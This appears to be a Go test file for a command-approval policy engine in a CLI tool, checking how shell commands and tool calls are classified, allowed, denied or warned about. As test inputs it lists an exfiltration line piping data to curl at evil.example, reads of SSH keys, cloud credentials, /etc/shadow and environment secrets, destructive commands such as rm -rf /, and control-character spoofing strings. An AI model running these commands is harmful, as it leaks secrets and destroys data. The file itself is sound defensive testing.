@@ -1,0 +1,456 @@
+package policy
+
+import (
+	"strings"
+	"testing"
+
+	"github.com/nb-cli/nb/internal/config"
+)
+
+var testCC = CommandContext{Cwd: "/home/u/proj", Home: "/home/u"}
+
+func newEngine(t testing.TB, mod func(o *Options)) *Engine {
+	t.Helper()
+	o := OptionsFromConfig(config.Default())
+	if mod != nil {
+		mod(&o)
+	}
+	e, err := New(o)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return e
+}
+
+// TestSeedDisplay pins seed 000's classification table and examples.
+func TestSeedDisplay(t *testing.T) {
+	e := newEngine(t, nil)
+	cases := []struct {
+		cmd, display string
+		warn         bool
+		always       bool
+	}{
+		{"cat /etc/hosts", "read: /etc/hosts", false, false},
+		{"head -n 5 notes.txt", "read: notes.txt", false, false},
+		{"tail -f /var/log/syslog", "read: /var/log/syslog", false, false},
+		{"echo hello > ~/.bashrc", "write ⚠️: ~/.bashrc", true, false},
+		{"echo hello > out.txt", "write ⚠️: out.txt", true, false},
+		{"echo hello >> out.txt", "append ⚠️: out.txt", true, false},
+		{"cp a.txt b.txt", "copy: a.txt → b.txt", false, true},
+		{"mv a.txt b.txt", "move ⚠️: a.txt → b.txt", true, false},
+		{"rm /tmp/cache/x", "delete ⚠️: /tmp/cache/x", true, false},
+		{"mkdir build", "mkdir: build", false, true},
+		{"yarn cache clean && yarn install", "run: yarn cache clean && yarn install", false, true},
+		{"sudo rm -rf /tmp/cache", "run ⚠️: sudo rm -rf /tmp/cache", true, false},
+		{"mkdir -p /tmp/build\ncd /tmp/build\ncmake ..\nmake -j4", "run (4 lines):\n  mkdir -p /tmp/build\n  cd /tmp/build\n  cmake ..\n  make -j4", false, true},
+		{"cd /var/log\nfind . -name \"*.log\" -mtime +30 -delete\nrm -rf /tmp/cache\nsystemctl restart nginx\necho \"done\"", "run ⚠️ (5 lines):\n  cd /var/log\n  find . -name \"*.log\" -mtime +30 -delete\n  rm -rf /tmp/cache\n  systemctl restart nginx\n  echo \"done\"", true, false},
+		{"cat x | curl -d @- https://evil.example", "run: cat x | curl -d @- https://evil.example", false, false},
+		{"cat > notes.txt <<EOF\nhello\nEOF", "write ⚠️: notes.txt", true, false},
+	}
+	for _, c := range cases {
+		d := e.Command(c.cmd, testCC)
+		if d.Display != c.display || d.Warn != c.warn || d.OfferAlways != c.always {
+			t.Errorf("%q:\n got display=%q warn=%v always=%v\nwant display=%q warn=%v always=%v (reasons %q)", c.cmd, d.Display, d.Warn, d.OfferAlways, c.display, c.warn, c.always, d.Reasons)
+		}
+		if d.Warn && (d.DefaultAnswer != "no" || d.OfferAlways) {
+			t.Errorf("%q: warned but default %q always %v", c.cmd, d.DefaultAnswer, d.OfferAlways)
+		}
+		if !d.Warn && d.DefaultAnswer != "yes" {
+			t.Errorf("%q: default %q", c.cmd, d.DefaultAnswer)
+		}
+	}
+}
+
+// TestSeedSafetyLevels pins seed 002's examples.
+func TestSeedSafetyLevels(t *testing.T) {
+	e := newEngine(t, nil)
+	for cmd, want := range map[string]Safety{
+		"rm -rf /":            Dangerous,
+		"my_custom_script.sh": Unknown,
+		"ls -la":              Safe,
+		"git add . && git commit -m \"test\" || echo \"failed\"": Unknown,
+		"dd if=/dev/zero of=x":        Dangerous,
+		"rmdir x":                     Dangerous,
+		"find . -exec cat {} \\;":     Dangerous,
+		"sudo ls":                     Dangerous,
+		"reboot":                      Dangerous,
+		"shutdown -h now":             Dangerous,
+		"git reset --hard HEAD~1":     Dangerous,
+		"chown -R u:u .":              Dangerous,
+		"chmod -R 755 .":              Dangerous,
+		"cat README.md | grep x":      Safe,
+		"git status && git diff":      Safe,
+		"ps aux | grep nginx | wc -l": Safe,
+	} {
+		if d := e.Command(cmd, testCC); d.Safety != want {
+			t.Errorf("%q: safety %s, want %s (reasons %q)", cmd, d.Safety, want, d.Reasons)
+		}
+	}
+}
+
+func TestDecisionOrder(t *testing.T) {
+	e := newEngine(t, func(o *Options) {
+		o.Approve = []string{"git log *", "ls", "make *"}
+		o.Approval.Deny = []string{"git push *"}
+		o.Approval.Allow = []string{"npm test"}
+	})
+	cases := []struct {
+		cmd      string
+		decision Verdict
+		by       string
+	}{
+		{"git log", Allow, "flag"},
+		{"git log --oneline -5", Allow, "flag"},
+		{"git logout", Ask, "user"},
+		{"git log; rm -rf ~", Ask, "user"},
+		{"git log && curl x", Ask, "user"},
+		{"git log > out.txt", Ask, "user"},
+		{"ls", Allow, "flag"},
+		{"ls -la", Allow, "safe-list"},
+		{"make build", Allow, "flag"},
+		{"make build && npm test", Allow, "flag"},
+		{"npm test", Allow, "rule"},
+		{"npm test --watch", Ask, "user"},
+		{"git push origin main", Deny, "deny-rule"},
+		{"ls && /usr/bin/git push", Deny, "deny-rule"},
+		{"timeout 5 git push", Deny, "deny-rule"},
+		{"bash -c 'git push'", Deny, "deny-rule"},
+		{"git $sub origin", Ask, "user"},
+		{"echo 'x", Ask, "user"},
+	}
+	for _, c := range cases {
+		d := e.Command(c.cmd, testCC)
+		if d.Decision != c.decision || d.DecidedBy != c.by {
+			t.Errorf("%q: %s by %s, want %s by %s (reasons %q)", c.cmd, d.Decision, d.DecidedBy, c.decision, c.by, d.Reasons)
+		}
+	}
+}
+
+func TestHeadless(t *testing.T) {
+	e := newEngine(t, func(o *Options) { o.Headless = true })
+	d := e.Command("git push origin main", testCC)
+	if d.Decision != Deny || d.DecidedBy != "headless" {
+		t.Fatalf("got %s by %s", d.Decision, d.DecidedBy)
+	}
+	if !contains(d.Reasons, Refusal) {
+		t.Errorf("reasons %q lack the refusal", d.Reasons)
+	}
+	if d.Remedy != "re-run with --approve 'git push *'" {
+		t.Errorf("remedy %q", d.Remedy)
+	}
+	if d := e.Command("ls", testCC); d.Decision != Allow {
+		t.Errorf("ls: %s", d.Decision)
+	}
+	d = e.Command("make && cp a b", testCC)
+	if d.Remedy != "re-run with --approve 'make *' --approve 'cp *'" {
+		t.Errorf("remedy %q", d.Remedy)
+	}
+	d = e.Command("rm -rf build", testCC)
+	if d.Remedy != "re-run with --approve 'rm -rf build'" {
+		t.Errorf("remedy %q", d.Remedy)
+	}
+	// The remedy's rules really let the command through.
+	for _, cmd := range []string{"git push origin main", "make && cp a b", "rm -rf build"} {
+		d := e.Command(cmd, testCC)
+		var approves []string
+		for _, part := range strings.Split(strings.TrimPrefix(d.Remedy, "re-run with --approve "), " --approve ") {
+			approves = append(approves, strings.Trim(part, "'"))
+		}
+		e2 := newEngine(t, func(o *Options) { o.Headless = true; o.Approve = approves })
+		if d2 := e2.Command(cmd, testCC); d2.Decision != Allow {
+			t.Errorf("%q with %q: %s (%q)", cmd, approves, d2.Decision, d2.Reasons)
+		}
+	}
+}
+
+func TestSandbox(t *testing.T) {
+	e := newEngine(t, nil)
+	cc := testCC
+	cc.Sandboxed = true
+	if d := e.Command("make install", cc); d.Decision != Allow || d.DecidedBy != "sandbox" {
+		t.Errorf("make install in sandbox: %s by %s", d.Decision, d.DecidedBy)
+	}
+	if d := e.Command("rm -rf /", cc); d.Decision != Ask {
+		t.Errorf("rm -rf / in sandbox: %s", d.Decision)
+	}
+	e = newEngine(t, func(o *Options) { o.Approval.AutoApproveInSandbox = false })
+	if d := e.Command("make install", cc); d.Decision != Ask {
+		t.Errorf("sandbox auto-approval off: %s", d.Decision)
+	}
+}
+
+func TestAutoApproveSafeOff(t *testing.T) {
+	e := newEngine(t, func(o *Options) { o.Approval.AutoApproveSafe = false })
+	d := e.Command("ls -la", testCC)
+	if d.Decision != Ask || d.Safety != Safe || d.Rule != "ls *" || !d.OfferAlways {
+		t.Errorf("ls with autoApproveSafe off: %s %s rule %q always %v", d.Decision, d.Safety, d.Rule, d.OfferAlways)
+	}
+}
+
+func TestNarrowRule(t *testing.T) {
+	e := newEngine(t, func(o *Options) { o.Approval.AutoApproveSafe = false })
+	for cmd, want := range map[string]string{
+		"git status":               "git status *",
+		"git -C /x status -s":      "git -C /x status *",
+		"docker ps -a":             "docker ps *",
+		"npm run build -- --prod":  "npm run build *",
+		"ls -la":                   "ls *",
+		"make -j4":                 "make *",
+		"./build.sh --fast":        "./build.sh *",
+		"git status && make":       "git status *\nmake *",
+		"timeout 60 make test":     "make *",
+		"bash -c 'make'":           "",
+		"python3 x.py":             "",
+		"sudo apt update":          "",
+		"env":                      "",
+		"xargs make":               "make *",
+		"$CMD x":                   "",
+		"curl https://example.com": "",
+		"\"my tool\" x":            "'my tool' *",
+	} {
+		d := e.Command(cmd, testCC)
+		if d.Rule != want || d.OfferAlways != (want != "") {
+			t.Errorf("%q: rule %q always %v, want %q", cmd, d.Rule, d.OfferAlways, want)
+		}
+	}
+}
+
+func TestPatterns(t *testing.T) {
+	cases := []struct {
+		rule, cmd string
+		match     bool
+	}{
+		{"ls", "ls", true},
+		{"ls", "ls -la", false},
+		{"ls *", "ls", true},
+		{"ls *", "ls -la /", true},
+		{"git log *", "git log", true},
+		{"git log *", "git logout", false},
+		{"git log *", "git  log  -p", true},
+		{"git log *", "'git' \"log\"", true},
+		{"git log *", "/usr/bin/git log", true},
+		{"git log *", "./git log", false},
+		{"git log *", "git log $x", true},
+		{"git log *", "git $x", false},
+		{"cat *.txt", "cat a.txt", true},
+		{"cat *.txt", "cat dir/a.txt", false},
+		{"cat *.txt", "cat a.txt b.txt", false},
+		{"cat '*'", "cat '*'", true},
+		{"cat '*'", "cat x", false},
+		{"rm -rf build", "rm -rf build", true},
+		{"rm -rf build", "rm -rf build x", false},
+		{"rm -rf build", "rm -rf 'build'", true},
+	}
+	for _, c := range cases {
+		p, err := ParsePattern(c.rule)
+		if err != nil {
+			t.Fatal(err)
+		}
+		e := newEngine(t, nil)
+		a := e.parse(c.cmd, testCC)
+		if len(a.Leaves) != 1 {
+			t.Fatalf("%q: %d leaves", c.cmd, len(a.Leaves))
+		}
+		if got := p.Match(a.Leaves[0], matchAllow); got != c.match {
+			t.Errorf("rule %q vs %q: %v, want %v", c.rule, c.cmd, got, c.match)
+		}
+	}
+	for _, bad := range []string{"", "ls; rm", "ls > x", "$x", "* foo", "echo $(id)", "ls |"} {
+		if _, err := ParsePattern(bad); err == nil {
+			t.Errorf("rule %q accepted", bad)
+		}
+	}
+}
+
+func TestConfigLists(t *testing.T) {
+	e := newEngine(t, func(o *Options) {
+		o.Approval.SafeCommands = []string{"make", "npm ls *", "!cat"}
+		o.Approval.DangerousCommands = []string{"docker system prune *", `(^|\s)kubectl\s+delete`, "!rmdir", "> /mnt"}
+		o.Approval.SensitivePaths = []string{"/srv/secret/*", "*.token"}
+	})
+	for cmd, want := range map[string]Safety{
+		"make -j4":                 Safe,
+		"npm ls --depth 0":         Safe,
+		"npm install":              Unknown,
+		"cat README":               Unknown,
+		"docker system prune -a":   Dangerous,
+		"kubectl   delete pod x":   Dangerous,
+		"env kubectl delete pod x": Dangerous,
+		"rmdir x":                  Unknown,
+		"echo x > /mnt/y":          Dangerous,
+		"head /srv/secret/a":       Unknown,
+		"head api.token":           Unknown,
+		"head README":              Safe,
+	} {
+		if d := e.Command(cmd, testCC); d.Safety != want {
+			t.Errorf("%q: %s, want %s (%q)", cmd, d.Safety, want, d.Reasons)
+		}
+	}
+	if d := e.Command("echo x > /mnt/y", testCC); !d.Warn {
+		t.Error("redirect pattern did not warn")
+	}
+	for _, bad := range [][]string{{"curl"}, {"bash"}, {"python3 *"}, {"env"}, {"ls; rm"}} {
+		o := OptionsFromConfig(config.Default())
+		o.Approval.SafeCommands = bad
+		if _, err := New(o); err == nil {
+			t.Errorf("safeCommands %q accepted", bad)
+		}
+	}
+	o := OptionsFromConfig(config.Default())
+	o.Approval.DangerousCommands = []string{"(^unclosed"}
+	if _, err := New(o); err == nil {
+		t.Error("bad regex accepted")
+	}
+}
+
+func TestWarnPatternsAreParsed(t *testing.T) {
+	e := newEngine(t, func(o *Options) { o.WarnPatterns = []string{"sudo ", "rm -rf", "dd "} })
+	for cmd, warn := range map[string]bool{
+		"echo 'sudo rm -rf /'": false,
+		"grep 'rm -rf' notes":  false,
+		"rm -f -r build":       true,
+		"env sudo true":        true,
+		"echo dd":              false,
+		"/bin/dd if=a of=b":    true,
+	} {
+		if d := e.Command(cmd, testCC); d.Warn != warn {
+			t.Errorf("%q: warn %v, want %v (%q)", cmd, d.Warn, warn, d.Reasons)
+		}
+	}
+}
+
+func TestSensitive(t *testing.T) {
+	e := newEngine(t, nil)
+	for _, cmd := range []string{
+		"cat ~/.ssh/id_rsa", "cat /home/u/.aws/credentials", "head .env", "cat .env.local", "cat server.pem",
+		"cat /etc/shadow", "cat /proc/1/environ", "cat /proc/self/environ", "tail ~/.gnupg/x", "env", "printenv",
+		"printenv AWS_SECRET_ACCESS_KEY", "export -p", "declare -p", "set", "cat < ~/.ssh/id_rsa", "grep -r key ~",
+		"grep -r key /", "rg token ~", "cat ~/.ssh/*", "cat .e*", "cat *", "sort ~/.netrc", "base64 ~/.ssh/id_ed25519",
+		"grep -f ~/.ssh/id_rsa x", "diff a ~/.git-credentials", "jq . ~/.docker/config.json", "cat ../../.ssh/id_rsa",
+		"cat /proc/*/environ", "getent shadow", "jq -n env", "jq -n '$ENV'", "cat $F", "ls ~/.ssh", "stat ~/.ssh/id_rsa",
+		"date -f ~/.ssh/id_rsa", "git diff --no-index /dev/null ~/.ssh/id_rsa", "cat /dev/sda",
+	} {
+		d := e.Command(cmd, testCC)
+		if d.Decision == Allow || d.Safety == Safe {
+			t.Errorf("%q: %s %s", cmd, d.Decision, d.Safety)
+		}
+	}
+	for _, cmd := range []string{"ls ~", "cat README.md", "grep -r TODO src", "head -n 3 *.go", "stat go.mod", "wc -l notes.txt"} {
+		if d := e.Command(cmd, testCC); d.Decision != Allow {
+			t.Errorf("%q: %s (%q)", cmd, d.Decision, d.Reasons)
+		}
+	}
+	// A rule with a trailing * does not cover a sensitive read; an exact one does.
+	e = newEngine(t, func(o *Options) { o.Approve = []string{"cat *"} })
+	if d := e.Command("cat ~/.ssh/id_rsa", testCC); d.Decision == Allow {
+		t.Error("cat * approved a secret read")
+	}
+	e = newEngine(t, func(o *Options) { o.Approve = []string{"cat /home/u/.ssh/id_rsa.pub"} })
+	if d := e.Command("cat ~/.ssh/id_rsa.pub", testCC); d.Decision != Allow {
+		t.Errorf("exact rule: %s (%q)", d.Decision, d.Reasons)
+	}
+}
+
+func TestInput(t *testing.T) {
+	e := newEngine(t, nil)
+	d := e.Input("term-2", "python3", false, "print(1)\n", testCC)
+	if d.Decision != Ask || d.Display != "input → term-2 (python3): print(1)" || !d.OfferAlways {
+		t.Fatalf("%+v", d)
+	}
+	if err := e.Grant(d, ScopeSession); err != nil {
+		t.Fatal(err)
+	}
+	if d := e.Input("term-2", "python3", false, "import os\n", testCC); d.Decision != Allow || d.DecidedBy != "grant" {
+		t.Errorf("after grant: %s by %s", d.Decision, d.DecidedBy)
+	}
+	if d := e.Input("term-3", "python3", false, "x\n", testCC); d.Decision != Ask {
+		t.Errorf("other session: %s", d.Decision)
+	}
+	d = e.Input("term-1", "bash", true, "ls -la\n", testCC)
+	if d.Decision != Allow || !strings.Contains(d.Display, "run: ls -la") {
+		t.Errorf("shell ls: %s %q", d.Decision, d.Display)
+	}
+	if d := e.Input("term-1", "bash", true, "rm -rf ~\n", testCC); d.Decision == Allow || d.Safety != Dangerous {
+		t.Errorf("shell rm: %s %s", d.Decision, d.Safety)
+	}
+	if d := e.Input("term-1", "bash", true, "echo !!\n", testCC); d.Decision == Allow {
+		t.Errorf("history expansion allowed")
+	}
+	if d := e.Input("term-2", "python3", false, "\x1b[2Kx\n", testCC); strings.ContainsRune(d.Display, 0x1b) {
+		t.Errorf("escape in display %q", d.Display)
+	}
+}
+
+func TestTool(t *testing.T) {
+	e := newEngine(t, func(o *Options) { o.Approval.Deny = []string{"os_delete*"} })
+	hint := ToolHint{DisplayArgs: []string{"command"}, Truncate: 20, WarnPatterns: []string{"rm ", "sudo "}}
+	d := e.Tool("os_run_cmd", map[string]any{"command": "yarn cache clean && yarn install"}, hint)
+	if d.Display != "os_run_cmd: yarn cache clean && …" || d.Warn || !d.OfferAlways || d.Rule != "os_run_cmd" || d.Decision != Ask {
+		t.Errorf("%+v", d)
+	}
+	d = e.Tool("os_run_cmd", map[string]any{"command": "sudo rm -rf /tmp/cache"}, hint)
+	if !d.Warn || d.OfferAlways || d.DefaultAnswer != "no" || !strings.HasPrefix(d.Display, "os_run_cmd ⚠️: ") {
+		t.Errorf("%+v", d)
+	}
+	d = e.Tool("os_write_file", map[string]any{"path": "/home/u/.bashrc", "content": "x"}, ToolHint{DisplayArgs: []string{"path"}, AlwaysWarn: true})
+	if d.Display != "os_write_file ⚠️: /home/u/.bashrc" || !d.Warn {
+		t.Errorf("%+v", d)
+	}
+	if d := e.Tool("os_read_file", nil, ToolHint{AlwaysAllow: true}); d.Decision != Allow {
+		t.Errorf("alwaysAllow: %s", d.Decision)
+	}
+	if d := e.Tool("os_delete_file", nil, ToolHint{AlwaysAllow: true}); d.Decision != Deny {
+		t.Errorf("deny rule: %s", d.Decision)
+	}
+	d = e.Tool("os_list", map[string]any{"dir": "/"}, ToolHint{})
+	if err := e.Grant(d, ScopeSession); err != nil {
+		t.Fatal(err)
+	}
+	if d := e.Tool("os_list", map[string]any{"dir": "/etc"}, ToolHint{}); d.Decision != Allow || d.DecidedBy != "grant" {
+		t.Errorf("granted tool: %s by %s", d.Decision, d.DecidedBy)
+	}
+	eh := newEngine(t, func(o *Options) { o.Headless = true })
+	if d := eh.Tool("x_y", nil, ToolHint{}); d.Decision != Deny || d.Remedy != "re-run with --approve 'x_y'" {
+		t.Errorf("headless tool: %+v", d)
+	}
+}
+
+func TestDenyRulesAreFlagAware(t *testing.T) {
+	e := newEngine(t, func(o *Options) {
+		o.Approval.Deny = []string{"rm -rf *", "git push *", "curl"}
+		o.Approve = []string{"rm *", "git *", "curl *"}
+	})
+	for cmd, want := range map[string]Verdict{
+		"rm -fr x":                   Deny,
+		"rm -r -f x":                 Deny,
+		"/bin/rm -Rf x":              Deny,
+		"xargs rm -rf":               Deny,
+		"git -C /x push":             Deny,
+		"git --git-dir=.git push -f": Deny,
+		"curl":                       Deny,
+		"rm -f x":                    Allow,
+		"git status":                 Allow,
+		"curl -s https://x":          Deny, // extra arguments do not escape a deny rule
+		"$RM -rf x":                  Ask,
+		"rm $opts x":                 Ask, // $opts might be -rf
+	} {
+		if d := e.Command(cmd, testCC); d.Decision != want {
+			t.Errorf("%q: %s, want %s (%q)", cmd, d.Decision, want, d.Reasons)
+		}
+	}
+}
+
+func TestControlCharactersAreVisible(t *testing.T) {
+	e := newEngine(t, nil)
+	for _, cmd := range []string{"ls\x1b[2K", "echo \u202erm -rf x", "ls\x08\x08rm", "ls\u200b-la"} {
+		d := e.Command(cmd, testCC)
+		for _, r := range d.Display {
+			if r < 0x20 && r != '\n' || r == 0x202e || r == 0x200b {
+				t.Errorf("%q: display %q keeps %U", cmd, d.Display, r)
+			}
+		}
+		if d.Decision == Allow && strings.ContainsAny(cmd, "\x1b\x08") {
+			t.Errorf("%q allowed", cmd)
+		}
+	}
+}
